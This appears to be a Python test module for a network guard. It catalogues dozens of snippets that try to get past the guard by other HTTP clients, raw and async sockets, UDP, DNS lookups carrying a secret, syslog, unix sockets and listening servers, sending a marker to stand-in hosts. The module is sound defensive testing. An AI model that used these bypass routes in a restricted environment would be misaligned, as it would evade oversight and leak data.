"""Ways to the network: other clients than the guarded one, datagrams, sockets of the machine, listening."""

from tests.guard.trick import End, Trick, family

CLIENTS = family(
    "other HTTP clients",
    Trick(
        name="urllib-post",
        body="""
            import urllib.request
            urllib.request.urlopen(f"{ELSEWHERE}/{NAME}", data=b"x")  #!
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="urllib-to-the-site",
        body="""
            import urllib.request
            urllib.request.urlopen(urllib.request.Request(f"{SITE}/open/{NAME}", method="DELETE"))  #!
        """,
    ),
    Trick(
        name="urllib-by-a-proxy",
        body="""
            import urllib.request as requests
            opener = requests.build_opener(requests.ProxyHandler({"http": ELSEWHERE}))
            opener.open(f"http://example.invalid/{NAME}")  #!
        """,
    ),
    Trick(
        name="http-client",
        body="""
            import http.client
            http.client.HTTPConnection("127.0.0.1", ELSEWHERE_PORT).request("DELETE", f"/{NAME}")  #!
        """,
    ),
    Trick(
        name="requests-post",
        body="""
            import requests
            requests.post(f"{ELSEWHERE}/{NAME}", data="x")  #!
        """,
    ),
    Trick(
        name="own-httpx-client",
        body="""
            import httpx
            httpx.Client().post(f"{ELSEWHERE}/{NAME}")  #!
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="own-httpx-async-client",
        body="""
            import httpx
            async def ask():
                async with httpx.AsyncClient() as client:
                    await client.post(f"{ELSEWHERE}/{NAME}")
            asyncio.run(ask())  #!
        """,
    ),
    Trick(
        name="own-httpx-to-the-site",
        body="""
            import httpx
            httpx.delete(f"{SITE}/open/{NAME}")  #!
        """,
    ),
    Trick(
        name="xmlrpc",
        body="""
            import xmlrpc.client
            xmlrpc.client.ServerProxy(f"{ELSEWHERE}/{NAME}").call()  #!
        """,
    ),
    Trick(
        name="smtplib",
        body="""
            import smtplib
            smtplib.SMTP(*TCP, timeout=5).ehlo(NAME)  #!
        """,
    ),
    Trick(
        name="ftplib",
        body="""
            import ftplib
            ftp = ftplib.FTP(timeout=5)
            ftp.connect(*TCP)  #!
            ftp.login(NAME)
        """,
    ),
    Trick(
        name="httpx-by-a-unix-socket",
        body="""
            import httpx
            transport = httpx.HTTPTransport(uds=UNIX)
            httpx.Client(transport=transport, timeout=5).get(f"http://localhost/{NAME}")  #!
        """,
    ),
)

SOCKETS = family(
    "raw sockets",
    Trick(
        name="create-connection",
        body="""
            socket.create_connection(TCP, timeout=5).sendall(NAME.encode())  #!
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="connect-ex",
        body="""
            plain = socket.socket()
            plain.connect_ex(TCP)  #!
            plain.sendall(NAME.encode())
        """,
    ),
    Trick(
        name="connect-without-waiting",
        body="""
            plain = socket.socket()
            plain.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                plain.connect(TCP)  #!
            plain.setblocking(True)
            plain.sendall(NAME.encode())
        """,
    ),
    Trick(
        name="the-module-in-c",
        body="""
            import _socket
            plain = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
            plain.connect(TCP)  #!
            plain.sendall(NAME.encode())
        """,
    ),
    Trick(
        name="connect-by-ipv6",
        body="""
            plain = socket.socket(socket.AF_INET6)
            plain.connect(("::ffff:127.0.0.1", TCP[1]))  #!
            plain.sendall(NAME.encode())
        """,
    ),
    Trick(
        name="netlink",
        body="""
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).bind((0, 0))  #!
            leak("asks the kernel")
        """,
    ),
    Trick(
        name="the-database-on-another-port",
        body="""
            socket.create_connection((DATABASE[0], TCP[1])).sendall(NAME.encode())  #!
        """,
    ),
    Trick(
        name="asyncio-streams",
        body="""
            async def say():
                _, writer = await asyncio.open_connection(*TCP)  #!
                writer.write(NAME.encode())
                await writer.drain()
            asyncio.run(say())
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="asyncio-protocol",
        body="""
            async def say():
                loop = asyncio.get_running_loop()
                transport, _ = await loop.create_connection(asyncio.Protocol, *TCP)  #!
                transport.write(NAME.encode())
                await asyncio.sleep(0.1)
            asyncio.run(say())
        """,
    ),
    Trick(
        name="sock-connect-of-a-loop",
        body="""
            async def say():
                plain = socket.socket()
                plain.setblocking(False)
                await asyncio.get_running_loop().sock_connect(plain, TCP)  #!
                await asyncio.get_running_loop().sock_sendall(plain, NAME.encode())
            asyncio.run(say())
        """,
    ),
    Trick(
        name="the-log-by-a-socket",
        body="""
            import logging.handlers
            handler = logging.handlers.SocketHandler(*TCP)
            handler.emit(logging.makeLogRecord({"msg": NAME}))  #!
        """,
    ),
)

DATAGRAMS = family(
    "datagrams and names",
    Trick(
        name="udp-sendto",
        body="""
            socket.socket(type=socket.SOCK_DGRAM).sendto(NAME.encode(), UDP)  #!
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="udp-connect-and-send",
        body="""
            plain = socket.socket(type=socket.SOCK_DGRAM)
            plain.connect(UDP)  #!
            plain.send(NAME.encode())
        """,
    ),
    Trick(
        name="udp-sendmsg",
        body="""
            socket.socket(type=socket.SOCK_DGRAM).sendmsg([NAME.encode()], [], 0, UDP)  #!
        """,
    ),
    Trick(
        name="udp-from-a-loop",
        body="""
            async def say():
                loop = asyncio.get_running_loop()
                made = await loop.create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=UDP)  #!
                made[0].sendto(NAME.encode())
                await asyncio.sleep(0.1)
            asyncio.run(say())
        """,
    ),
    Trick(
        name="the-log-by-datagrams",
        body="""
            import logging.handlers
            handler = logging.handlers.SysLogHandler(UDP)
            handler.emit(logging.makeLogRecord({"msg": NAME, "levelname": "INFO"}))  #!
        """,
    ),
    Trick(
        name="a-question-to-a-name-server",
        body="""
            labels = b"".join(bytes([len(label)]) + label.encode() for label in (NAME, "invalid"))
            question = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + labels + b"\\x00\\x00\\x01\\x00\\x01"
            socket.socket(type=socket.SOCK_DGRAM).sendto(question, UDP)  #!
        """,
    ),
    Trick(
        name="a-secret-as-a-name",
        body="""
            with contextlib.suppress(OSError):
                socket.getaddrinfo(f"127.{NAME}.invalid", 80)  #!
            leak("asked for a name")
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="a-name-by-gethostbyname",
        body="""
            with contextlib.suppress(OSError):
                socket.gethostbyname_ex(f"127.{NAME}.invalid")  #!
            leak("asked for a name")
        """,
    ),
    Trick(
        name="a-name-in-a-loop",
        body="""
            async def ask():
                with contextlib.suppress(OSError):
                    await asyncio.get_running_loop().getaddrinfo(f"127.{NAME}.invalid", 80)
                leak("asked for a name")
            asyncio.run(ask())
        """,
    ),
    Trick(
        name="a-name-backwards",
        body="""
            with contextlib.suppress(OSError):
                socket.gethostbyaddr("127.9.9.9")  #!
            leak("asked for a name")
        """,
    ),
    Trick(
        name="the-logger-of-the-system",
        body="""
            import syslog
            syslog.syslog(NAME)  #!
            leak("told the system's logger")
        """,
    ),
)

LOCAL = family(
    "unix sockets and listening",
    Trick(
        name="unix-socket",
        body="""
            plain = socket.socket(socket.AF_UNIX)
            plain.connect(UNIX)  #!
            plain.sendall(NAME.encode())
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="unix-socket-in-a-loop",
        body="""
            async def say():
                _, writer = await asyncio.open_unix_connection(UNIX)  #!
                writer.write(NAME.encode())
                await writer.drain()
            asyncio.run(say())
        """,
    ),
    Trick(
        name="unix-bind",
        body="""
            socket.socket(socket.AF_UNIX).bind(str(NEW))  #!
        """,
    ),
    Trick(
        name="listen",
        body="""
            socket.create_server(("127.0.0.1", 0))  #!
            leak("listens")
        """,
        apart=End.REFUSED,
    ),
    Trick(
        name="listen-everywhere",
        body="""
            socket.create_server(("", FREE_PORT))  #!
            leak("listens")
        """,
    ),
    Trick(
        name="listen-unbound",
        body="""
            plain = socket.socket()
            plain.listen()  #!
            leak(f"listens on {plain.getsockname()}")
        """,
    ),
    Trick(
        name="serve-http",
        body="""
            import http.server
            http.server.HTTPServer(("127.0.0.1", 0), http.server.BaseHTTPRequestHandler)  #!
            leak("listens")
        """,
    ),
    Trick(
        name="serve-in-a-loop",
        body="""
            async def serve():
                await asyncio.start_server(lambda *_: None, "127.0.0.1", 0)  #!
                leak("listens")
            asyncio.run(serve())
        """,
    ),
    Trick(
        name="listener-of-multiprocessing",
        body="""
            import multiprocessing.connection
            multiprocessing.connection.Listener(("127.0.0.1", 0))  #!
            leak("listens")
        """,
    ),
    Trick(
        name="client-of-multiprocessing",
        body="""
            import multiprocessing.connection
            multiprocessing.connection.Client(UNIX).send(NAME)  #!
        """,
    ),
)

NETWORK = (*CLIENTS, *SOCKETS, *DATAGRAMS, *LOCAL)
